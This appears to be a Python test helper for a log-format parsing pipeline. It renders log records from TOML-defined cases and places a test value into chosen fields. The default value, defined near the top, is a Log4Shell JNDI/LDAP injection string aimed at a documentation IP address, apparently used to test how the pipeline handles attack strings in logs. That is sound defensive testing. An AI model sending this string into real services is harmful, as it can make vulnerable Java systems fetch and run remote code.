"""Shared helpers for the log-format tests: the field cases and routers for them."""

from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any

from pipeline.formats import FormatRouter
from pipeline.formats.settings import FormatSettings

DATA = Path(__file__).resolve().parents[1] / "data" / "formats"

#: A Log4Shell payload with a documentation address as its target.
PAYLOAD = "${jndi:ldap://198.51.100.7:1389/a}"

CASES: list[dict[str, Any]] = tomllib.loads((DATA / "field_cases.toml").read_text())[
    "case"
]


def haproxy_encode(value: str) -> str:
    """HAProxy's ``#XX`` encoding of captured header values."""
    return "".join(f"#{ord(c):02X}" if c in '"#{|}' else c for c in value)


ENCODERS = {"haproxy": haproxy_encode}


def render(
    case: dict[str, Any], slot: str | None = None, value: str = PAYLOAD
) -> bytes:
    """The case's record with defaults in every slot, and ``value`` in ``slot``."""
    record: str = case["record"]
    for name, spec in case["slots"].items():
        filler = spec["default"]
        if name == slot:
            filler = ENCODERS[spec["encode"]](value) if "encode" in spec else value
        record = record.replace(f"@@{name}@@", filler)
    if case["format"] == "modsec":
        return record.lstrip("\n").encode()
    return record.encode()


def settings_for(case: dict[str, Any], **overrides: Any) -> FormatSettings:
    """The ``[formats]`` settings a case needs (custom formats, mappings)."""
    values: dict[str, Any] = dict(case.get("settings", {}))
    if "mapping" in case:
        values["json_mappings"] = {case["format"]: DATA / case["mapping"]}
    values.update(overrides)
    return FormatSettings(**values)


def router_for(case: dict[str, Any], **overrides: Any) -> FormatRouter:
    """A router set up for the case, its directive lines already fed."""
    router = FormatRouter(settings=settings_for(case, **overrides))
    parser = router.parser(case["format"])
    for line in case.get("directives", []):
        assert parser.parse(line.encode()) is None
    return router
